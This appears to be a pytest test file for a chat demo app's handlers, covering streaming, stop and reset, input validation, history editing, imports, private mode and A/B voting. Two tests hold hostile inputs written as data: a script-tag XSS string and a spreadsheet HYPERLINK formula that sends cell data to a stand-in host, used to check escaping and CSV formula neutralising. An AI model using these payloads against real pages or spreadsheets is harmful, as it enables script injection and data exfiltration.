"""The app's handlers with the real engine and a real SQLite file (no server needed)."""
import csv
import json
import html
import random
import re
from types import SimpleNamespace

import pytest

from costeer.engine.text import end_on_sentence
from fields import Refused
from ui.handlers import DEMO_DECODING, Session, Studio, new_conversation, persona_files
from ui.render import bubble
from user_store import StaleEntry, StoreError, UserStore

KENJI = "Kenji (Osaka, vegetarian, jazz)"
TAB = SimpleNamespace(session_hash="tab-1")


@pytest.fixture
def studio(engine, tmp_path):
    s = Studio(engine, UserStore(tmp_path / "c.db"), rng=random.Random(0))  # seeded: both sides come up in 6 trials
    s.load_persona(KENJI)
    return s


def _args(**kw):
    args = dict(T=20, eta=10, lam=2, alpha=2, beta=1, temperature=0, top_p=1, seed=None, max_new_tokens=16,
                repetition_penalty=1.1, no_repeat_ngram_size=4, gate_on=False, gate_threshold=0.1, gate_patience=3,
                gate_mode="paper", sigma=0, tau=0, speculate=1)
    args.update(kw)
    return list(args.values())


def _chat(studio, message, conv, side=True, user=KENJI, request=TAB, **kw):
    after = {k: kw.pop(k) for k in ("copy_guard", "private") if k in kw}  # chat's arguments after conv
    *_, last = studio.chat(user, message, side, *_args(**kw), conv, request=request, **after)
    return last


@pytest.mark.slow
def test_chat_echoes_at_once_streams_and_keeps_two_conversations(studio):
    steps = list(studio.chat(KENJI, "Plan my Friday evening", True, *_args(max_new_tokens=24), new_conversation(),
                             request=TAB))
    first = steps[0]
    assert first[1][-2]["content"] == "Plan my Friday evening" and first[1][-1]["content"] == "…"  # echoed at once
    assert first[8]["interactive"] is False and first[9]["visible"] is True  # Send off, Stop shown
    assert "press Stop" in first[7]["placeholder"]  # and the message box says why Enter does nothing
    assert len(steps) > 3
    u_chat, s_chat, tokens, privacy, latency, status, conv, box, send, stop = steps[-1]
    assert box["value"] == "" and box["placeholder"] == "Ask something…"
    assert send["interactive"] is True and stop["visible"] is False
    assert u_chat[-1]["content"] != s_chat[-1]["content"]
    assert "C=1.783" in s_chat[-1]["content"] and "repetition penalty 1.1" in s_chat[-1]["content"]  # its settings
    assert "cloud model alone" in u_chat[-1]["content"]
    assert "Sent to the cloud" in privacy and "Strict vegetarian" in privacy
    prompt_sent = privacy.split("Sent to the cloud")[1].split("Then only the chosen tokens")[0]
    assert "Strict vegetarian" not in prompt_sent  # the context is not in the prompt the cloud got
    reply_sent = privacy.split("They spell the reply")[1].split("Stayed on your device")[0]
    reply_text = html.unescape(re.sub(r"<[^>]+>", "", reply_sent))  # exposed terms are marked up in it
    assert conv["steered"][-1]["content"].split("\n")[0] in reply_text  # the reply is: it did reach it
    assert "chosen tokens can carry personal information" in privacy
    assert "No earlier steered answers" in privacy
    assert "first token after" in latency and "one model plays both roles" in latency and "T costs nothing" in latency
    assert "device weights: fp32 (the exact reference)" in latency  # the precision that ran (models/quantized.py)
    assert "Will it run on my PC?" in latency and "paper pair, 0.5B device" in latency and "laptop" in latency
    assert "steered</b>: done · " in status and "class='tok" in tokens
    raw = conv["steered"][-1]["content"]  # the state holds the whole answer; the bubble may end it on a sentence
    shown = s_chat[-1]["content"].split("\n\n<sub>")[0]
    assert shown == bubble(end_on_sentence(raw, "length" if "(cut at 24 tokens)" in shown else None, 24))
    assert "context: About me, Style" in s_chat[-1]["content"] and "deny-list: 0 token ids" in s_chat[-1]["content"]
    u2, s2, _, privacy2, *_, conv2, _, _, _ = _chat(studio, "Something quieter?", conv)
    assert len(u2) == len(s2) == 4 and len(conv2["steered"]) == 4
    assert u2[1] == u_chat[1] and s2[1] == s_chat[1]  # each column continues its own conversation
    assert "1 earlier steered answer(s)" in privacy2 and "<mark class='echo'>" in privacy2  # said, and shown


def test_a_reset_keeps_the_unsent_question_in_the_box(studio):
    """New conversation, the side-by-side toggle and a user switch all reset; none of them may wipe a
    question typed and not sent, and a reply they end gives its question back, as Stop does (#27)."""
    *_, box, send, stop = studio.reset(True, request=TAB)
    assert "value" not in box and send["interactive"] is True  # what is typed in the box stays there
    run = studio.chat(KENJI, "Plan my Friday evening", True, *_args(max_new_tokens=64), new_conversation(), request=TAB)
    [next(run) for _ in range(3)]
    *_, box, send, stop = studio.reset(True, request=TAB)
    assert box["value"] == "Plan my Friday evening"
    rest = list(run)
    assert rest[-1][7]["value"] == "Plan my Friday evening"  # the ended reply's last update agrees


def test_user_text_is_shown_as_text(studio):
    u_chat, s_chat, *_ = _chat(studio, "What does <script>alert(1)</script> do?", new_conversation(), max_new_tokens=8)
    assert s_chat[-2]["content"] == "What does &lt;script&gt;alert(1)&lt;/script&gt; do?"


def test_chat_without_side_by_side_runs_steered_only(studio):
    u_chat, s_chat, *_ = _chat(studio, "Plan my Friday evening", new_conversation(), side=False)
    assert isinstance(u_chat, dict) and s_chat[-1]["content"].strip()  # the hidden pane is not touched


@pytest.mark.slow
def test_switching_user_mid_stream_ends_the_reply_and_keeps_nothing(studio):
    studio.store.import_file(persona_files()["Jay (teen gamer)"])
    conv = new_conversation()
    run = studio.chat(KENJI, "Plan my Friday evening", True, *_args(max_new_tokens=64), conv, request=TAB)
    shown = [next(run) for _ in range(3)]
    assert shown[-1][1][-2]["content"] == "Plan my Friday evening"
    new_conv, *_ = studio.reset(True, request=TAB)  # what switching user (or New conversation) calls
    rest = list(run)  # the old reply ends: one last update, the blank screen the reset left
    assert len(rest) == 1 and rest[0][0] == [] and rest[0][1] == [] and rest[0][8]["interactive"] is True
    assert new_conv == new_conversation() and conv == new_conversation()
    *_, jay_conv, _, _, _ = _chat(studio, "What should I do this weekend?", new_conv, user="Jay (teen gamer)")
    assert "Friday" not in json.dumps(jay_conv)  # the next cloud prompt holds nothing of Kenji's turn


def test_stop_restores_the_conversation_and_frees_send(studio):
    conv = _chat(studio, "Plan my Friday evening", new_conversation())[6]
    run = studio.chat(KENJI, "And Saturday?", True, *_args(max_new_tokens=64), conv, request=TAB)
    next(run), next(run)
    with pytest.raises(Refused, match="send: a reply is still running"):
        next(studio.chat(KENJI, "again", True, *_args(), conv, request=TAB))
    u_chat, s_chat, tokens, status, box, send, stop = studio.stop(conv, request=TAB)
    rest = list(run)
    assert len(rest) == 1 and rest[0][:2] == (u_chat, s_chat)  # its last update: the screen Stop left
    assert s_chat == conv["steered_view"] and u_chat == conv["unsteered_view"]
    assert "stopped" in status and send["interactive"] is True
    assert box["value"] == "And Saturday?" and rest[0][7]["value"] == "And Saturday?"  # the question is kept
    idle_box = studio.stop(conv, request=TAB)[4]
    assert "value" not in idle_box  # Stop with nothing running leaves what is typed alone
    assert _chat(studio, "And Saturday?", conv)[1][-1]["content"]  # Send works again


def test_session_numbers_replies():
    s = Session()
    run = s.start()
    assert s.current(run)
    s.end()
    assert not s.current(run) and s.running is None
    assert s.current(s.start())


@pytest.mark.parametrize("user, message, kw, words", [
    (None, "hi", {}, "user: empty; choose a user"),
    ("ghost", "hi", {}, "user: unknown user 'ghost'"),
    (KENJI, "  ", {}, "message: empty; type something first"),
    (KENJI, "x" * 4001, {}, "message: at most 4000 characters, got 4001"),
    (KENJI, "hi\ud83d", {}, "message: contains a lone surrogate (U+D83D"),
    (KENJI, "hi\x00", {}, "message: contains a NUL character at character 3"),
    (KENJI, "hi", {"T": 0}, "T: must be an integer in [1, 100], got 0"),
    (KENJI, "hi", {"T": True}, "T: must be an integer in [1, 100], got True"),
    (KENJI, "hi", {"lam": 9}, "lam: must be a number in [0.1, 5], got 9"),
    (KENJI, "hi", {"alpha": None}, "alpha: required; enter a number in [0, 10]"),
    (KENJI, "hi", {"eta": "x"}, "eta: must be a number in [0.5, 20], got 'x'"),
    (KENJI, "hi", {"max_new_tokens": float("inf")}, "max_new_tokens: must be an integer in [8, 512], got inf"),
    (KENJI, "hi", {"temperature": float("nan")}, "temperature: must be a number in [0, 2], got nan"),
    (KENJI, "hi", {"repetition_penalty": 0.5}, "repetition_penalty: must be a number in [1, 2], got 0.5"),
    (KENJI, "hi", {"gate_mode": "sometimes"}, "gate mode: must be one of paper, reopen"),
])
def test_chat_bad_input_names_the_field_and_range(studio, user, message, kw, words):
    with pytest.raises(Refused) as err:
        _chat(studio, message, new_conversation(), user=user, **kw)
    assert words in str(err.value)
    assert studio.session(TAB).running is None  # a refused turn leaves nothing running


def test_a_conversation_longer_than_the_model_is_a_clear_error(studio):
    turn = "word " * 700
    conv = {k: [{"role": r, "content": turn} for _ in range(7) for r in ("user", "assistant")]
            for k in ("steered", "unsteered")}
    conv.update(steered_view=[], unsteered_view=[])
    *_, last = studio.chat(KENJI, "one more question", True, *_args(), conv, request=TAB)
    assert last[7]["value"] == "one more question" and last[8]["interactive"] is True  # message back, Send on again
    assert _chat(studio, "Plan my Friday evening", new_conversation())[1][-1]["content"]  # still works


def test_strength_text_warns_when_extreme():
    assert "C = 1.783" in Studio.strength(20, 10, 2, 2, 1)
    assert "Extreme steering" in Studio.strength(20, 10, 0.5, 2, 1)
    assert "Invalid setting" in Studio.strength(20, 10, 9, 2, 1) and "lam: must be a number in [0.1, 5]" in \
        Studio.strength(20, 10, 9, 2, 1)


def test_history_editing_by_id(studio):
    rows = studio.history_rows(KENJI)
    assert len(rows) == 10 and rows[0][4] is True  # pinned first
    rows, box = studio.add_entry(KENJI, "Allergic to peanuts", "profile", "Allergy", True, False)
    new = [r for r in rows if r[3] == "Allergic to peanuts"][0]
    version = studio.store.entry(new[0])["version"]
    rows, saved = studio.update_entry(KENJI, new[0], "Allergic to peanuts and cashews", "profile", "Allergy", False,
                                      True, version)
    assert [r for r in rows if r[0] == new[0]][0][3].endswith("cashews") and [r for r in rows if r[0] == new[0]][0][5] is True
    assert saved == version + 1
    with pytest.raises(StaleEntry, match="changed in another tab or window"):  # the form still holds the old version
        studio.update_entry(KENJI, new[0], "Allergic to peanuts (stale)", "profile", "Allergy", False, True, version)
    with pytest.raises(Refused, match="text: empty"):
        studio.update_entry(KENJI, new[0], " ", "profile", "", False, False)
    visible, question, pending = studio.ask_delete(KENJI, new[0])
    assert f"#{new[0]}" in question and pending == {"user": KENJI, "id": new[0]}
    assert any(r[0] == new[0] for r in studio.history_rows(KENJI))  # asking deletes nothing
    rows, *_ = studio.confirm_delete(pending)
    assert all(r[0] != new[0] for r in rows)
    studio.store.add_user("other")
    other = studio.store.add_entry("other", "not yours")
    with pytest.raises(Refused, match="is not one of"):
        studio.ask_delete(KENJI, other)
    assert "Strict vegetarian" in studio.preview_context(KENJI, "dinner ideas")


def test_select_uses_the_rows_id_not_its_position(studio):
    rows = studio.history_rows(KENJI)
    third = rows[2]
    studio.store.delete_entry(rows[0][0])  # another tab deletes the first row
    picked = studio.select_entry(KENJI, SimpleNamespace(row_value=third, index=[2, 0]))
    assert picked[0] == third[0] and picked[1] == third[3]
    gone = studio.select_entry(KENJI, SimpleNamespace(row_value=rows[0], index=[0, 0]))
    assert gone[0] is None and all(r[0] != rows[0][0] for r in gone[6])  # refused, table refreshed


def test_create_user_twice_is_refused(studio):
    studio.create_user("Ana")
    with pytest.raises(Refused, match="new user name: 'Ana' already exists"):
        studio.create_user(" Ana ")


def test_import_goes_into_the_files_own_user(studio, tmp_path):
    f = tmp_path / "ana.json"
    f.write_text(json.dumps({"user": "Ana Porto", "entries": [{"text": "Lives in Lisbon"}]}), encoding="utf-8")
    choices, rows, cleared = studio.import_history(KENJI, str(f), "merge", False)
    assert choices["value"] == "Ana Porto" and rows[0][3] == "Lives in Lisbon" and cleared is None
    assert len(studio.history_rows(KENJI)) == 10  # Kenji untouched
    studio.import_history(KENJI, str(f), "merge", True)  # the explicit choice
    assert any(r[3] == "Lives in Lisbon" for r in studio.history_rows(KENJI))
    nameless = tmp_path / "nameless.json"
    nameless.write_text(json.dumps([{"text": "x"}]), encoding="utf-8")
    with pytest.raises(Refused, match="tick 'into the selected user'"):
        studio.import_history(KENJI, str(nameless), "merge", False)


@pytest.mark.parametrize("content, words", [
    ("{not json", "not valid JSON"),
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    (json.dumps({"user": "Ana", "entries": [{"text": "bad \\ud800 half"}]}).replace("\\\\", "\\"), "lone surrogate"),
    (json.dumps({"<a href='x'>Session expired</a>": 1}), "expected an object with 'entries'"),
])
def test_bad_import_files_are_refused_and_lose_nothing(studio, tmp_path, content, words):
    f = tmp_path / "bad.json"
    f.write_text(content, encoding="utf-8", errors="surrogatepass")
    with pytest.raises(StoreError, match=words):
        studio.import_history(KENJI, str(f), "replace", True)
    assert len(studio.history_rows(KENJI)) == 10
    # the page's Import button says why and takes the bad file out of the upload box (#27)
    with pytest.warns(UserWarning, match=words):
        _, _, upload = studio.import_from_page(KENJI, str(f), "replace", True)
    assert upload is None and len(studio.history_rows(KENJI)) == 10


def test_an_import_refused_for_its_options_keeps_the_file(studio, tmp_path):
    nameless = tmp_path / "nameless.json"
    nameless.write_text(json.dumps([{"text": "x"}]), encoding="utf-8")
    with pytest.raises(Refused, match="tick 'into the selected user'"):  # the guard shows it; the file stays
        studio.import_from_page(KENJI, str(nameless), "merge", False)


def test_the_first_screen_has_someone_to_steer_for(engine, tmp_path):
    """#27: the first screen had an empty User box. A page load picks the docs' demo persona, or
    the first user; a first run on an empty database loads the demo persona; a pick stays."""
    fresh = Studio(engine, UserStore(tmp_path / "fresh.db"))
    users, banner = fresh.page_load(None)
    assert users["value"] == KENJI and users["choices"] == [KENJI] and fresh.history_rows(KENJI)
    fresh.create_user("Ana")
    assert fresh.page_load("Ana")[0]["value"] == "Ana"  # a user picked before the load's answer stays picked
    assert fresh.page_load(None)[0]["value"] == KENJI
    used = Studio(engine, UserStore(tmp_path / "used.db"))
    used.create_user("Bo")
    assert used.page_load(None)[0]["value"] == "Bo" and used.store.users() == ["Bo"]  # nothing added to a used one
    locked = Studio(engine, UserStore(tmp_path / "locked.db"), read_only="the file is read-only")
    users, banner = locked.page_load(None)
    assert users["value"] is None and locked.store.users() == [] and "Read-only" in banner["value"]


def test_full_disk_and_read_only_database_are_messages(studio, tmp_path):
    db = studio.store.db
    pages = db.execute("PRAGMA page_count").fetchone()[0]
    db.execute(f"PRAGMA max_page_count = {pages}")  # SQLite's own size limit: a real SQLITE_FULL
    before = len(studio.history_rows(KENJI))
    with pytest.raises(StoreError, match="the disk .* is full. Nothing was changed"):
        for _ in range(200):
            studio.add_entry(KENJI, "x" * 4000, "note", "", False, False)
    assert len(studio.history_rows(KENJI)) >= before
    db.execute("PRAGMA max_page_count = 1073741823")
    db.execute("PRAGMA query_only = ON")  # SQLite refuses every write, as for a read-only file
    with pytest.raises(StoreError, match="read-only. Nothing was changed"):
        studio.create_user("Bo")
    assert studio.store.writable_problem()
    db.execute("PRAGMA query_only = OFF")
    assert studio.store.writable_problem() is None


@pytest.mark.slow
def test_private_mode_shows_both_texts_and_the_next_turn_sends_the_public_one(studio):
    conv = new_conversation()
    *_, last = studio.chat(KENJI, "What should I cook tonight?", False, *_args(max_new_tokens=32), conv,
                           private=True, request=TAB)
    privacy, conv = last[3], last[6]
    assert "Private mode:" in privacy and "<mark class='kept'" in privacy and "<mark class='standin'" in privacy
    read, sent = conv["steered"][-1]["content"], conv["public"][-1]["content"]
    assert read != sent and html.unescape(re.sub(r"<[^>]+>", "", privacy)).count(sent.strip()[:30]) >= 1
    *_, second = studio.chat(KENJI, "And for dessert?", False, *_args(max_new_tokens=8), conv, private=True,
                             request=TAB)
    prompt_sent = second[3].split("Sent to the cloud")[1].split("Then only the chosen tokens")[0]
    assert html.escape(sent.strip()[:30], quote=False) in prompt_sent  # the cloud's prompt holds the public reply
    assert html.escape(read.strip()[:30], quote=False) not in prompt_sent
    with pytest.raises(Refused, match=r"speculate K: Private mode needs 1 \(off\), got 4"):
        _chat(studio, "hi", new_conversation(), speculate=4, private=True)
    with pytest.raises(Refused, match="private"):
        _chat(studio, "hi", new_conversation(), private="yes")


@pytest.mark.slow
def test_blind_ab_vote_results_and_csv(studio):
    seen_sides = set()
    for i in range(6):
        a, b, trial, note, *buttons = studio.ab_generate(KENJI, "Plan my Friday evening", 20, 10, 2, 2, 1, 0, 1, None, 8)
        assert [u["interactive"] for u in buttons] == [True] * 4  # unlocked only once both answers are there
        a, b = a["value"], b["value"]
        seen_sides.add(trial["steered_side"])
        steered = a if trial["steered_side"] == "A" else b
        assert trial["a"] == a and trial["b"] == b and steered != (b if steered == a else a)
        reveal, cleared, label_a, label_b, *buttons = studio.cast_vote("rita", trial, ["A", "B", "tie", "both_bad", "A", "B"][i])
        assert "was steered (CoSteer)" in reveal and cleared is None
        assert [u["interactive"] for u in buttons] == [False] * 4  # locked again after the vote
        steered_label = label_a if trial["steered_side"] == "A" else label_b
        assert steered_label["label"].endswith("steered (CoSteer)")  # the sides are relabelled
    assert seen_sides == {"A", "B"}  # the order is randomized per trial
    with pytest.raises(Refused, match="generate a pair"):
        studio.cast_vote("rita", None, "A")
    summary = studio.ratings_summary()
    assert summary["n"] == 6 and summary["counts"] == {"A": 2, "B": 2, "tie": 1, "both_bad": 1}
    lo, hi = summary["ci95"]
    assert 0 <= lo <= summary["steered_win_rate"] <= hi <= 1
    rows, fig = studio.results()
    assert rows[0][0] == "all settings" and rows[0][1] == 6
    with open(studio.votes_csv(), newline="", encoding="utf-8") as f:
        votes = list(csv.DictReader(f))
    assert len(votes) == 6 and json.loads(votes[0]["params"])["T"] == 20


def test_votes_csv_does_not_carry_formulas(studio):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    studio.store.add_vote(formula, KENJI, [{"role": "user", "content": "hi"}], "+1", "@SUM(A1)", "A", "A", {})
    with open(studio.votes_csv(), newline="", encoding="utf-8") as f:
        row = list(csv.DictReader(f))[-1]
    assert row["rater"] == "'" + formula and row["answer_a"] == "'+1" and row["answer_b"] == "'@SUM(A1)"


@pytest.mark.slow
def test_parameter_explorer_flags_word_salad_and_runs_equal_C_once(studio):
    rows, fig = studio.explore(KENJI, "Plan my Friday evening", "lam", "0.5, 2, 2.0", 20, 10, 2, 2, 1, 32,
                               progress=lambda *a, **k: None)
    assert [r[0] for r in rows] == ["unsteered", "lam = 0.5", "lam = 2", "lam = 2"]
    assert rows[1][1] > 900 and rows[2][1] == pytest.approx(1.783, abs=1e-3)  # C shown for every point
    assert rows[0][7] == "ok"
    assert "not fluent" in rows[1][7] or "looping" in rows[1][7]  # C ≈ 969: the cloud alone finds it far less likely
    assert "same C as lam = 2" in rows[3][7] and rows[3][8] == rows[2][8]
    for r in rows:  # the copy and contradiction columns agree with the check
        assert (r[5] >= 8) == ("copies the history" in r[7]) and (r[6] not in ("", "–")) == ("contradicts" in r[7])
    with pytest.raises(Refused, match=r"values: each must be a number in \[0.1, 5\]"):
        studio.explore(KENJI, "hi", "lam", "0, 9", 20, 10, 2, 2, 1, 8, progress=lambda *a, **k: None)


def test_personas_are_distinct_and_have_examples():
    from ui.handlers import persona_examples

    names = list(persona_files())
    assert len(names) == 3 and len(set(names)) == 3
    assert all(len(persona_examples(n)) == 3 for n in names)


def test_demo_decoding_is_documented():
    from conftest import docs_text

    readme = docs_text()
    assert f"repetition penalty {DEMO_DECODING['repetition_penalty']}" in readme
    assert f"no repeated {DEMO_DECODING['no_repeat_ngram_size']}-grams" in readme


@pytest.mark.slow
def test_chat_takes_the_sensitive_entries_and_the_noise_knobs(studio):
    entry = next(e for e in studio.store.entries(KENJI) if "Nakazakicho" in e["text"])
    studio.store.update_entry(entry["id"], sensitive=True)
    _, s_chat, _, privacy, *_ = _chat(studio, "Plan my Friday evening", new_conversation(), max_new_tokens=16)
    margin = float(privacy.split("max log p − log b = ")[1].split(")")[0])
    assert "Deny-list:" in privacy and margin <= 1e-6
    noisy = [_chat(studio, "Plan my Friday evening", new_conversation(), max_new_tokens=16, sigma=1.0, tau=2.0,
                   seed=7)[1][-1]["content"] for _ in range(2)]
    assert noisy[0] == noisy[1] != s_chat[-1]["content"]  # seeded: the same seed, the same noisy answer
    with pytest.raises(Refused, match=r"clip tau: must be a number in \[0, 10\]"):
        _chat(studio, "hi", new_conversation(), tau=11)


@pytest.mark.slow
def test_chat_speculates_with_the_same_answer_and_counts_rejected_drafts(studio):
    """speculate K gives the same greedy answer; the latency readout counts round trips and drafts;
    with noise on d some drafts are rejected, and the privacy panel shows them as cloud-visible."""
    plain = _chat(studio, "Plan my Friday evening", new_conversation(), max_new_tokens=16)
    spec = _chat(studio, "Plan my Friday evening", new_conversation(), max_new_tokens=16, speculate=4)
    assert spec[1][-1]["content"] == plain[1][-1]["content"] and spec[0][-1]["content"] == plain[0][-1]["content"]
    latency = spec[4]
    assert "Speculation:" in latency and "round trips for 16 steered tokens" in latency
    noisy = _chat(studio, "Plan my Friday evening", new_conversation(), max_new_tokens=16, speculate=4, sigma=1.0,
                  seed=3)
    n = int(noisy[4].split("<b>")[-2].split(" rejected")[0])  # the speculation line, before the projection
    assert n > 0 and f"the cloud also saw <b>{n} drafted token(s)</b>" in noisy[3]
    with pytest.raises(Refused, match=r"speculate K: must be an integer in \[1, 8\]"):
        _chat(studio, "hi", new_conversation(), speculate=9)
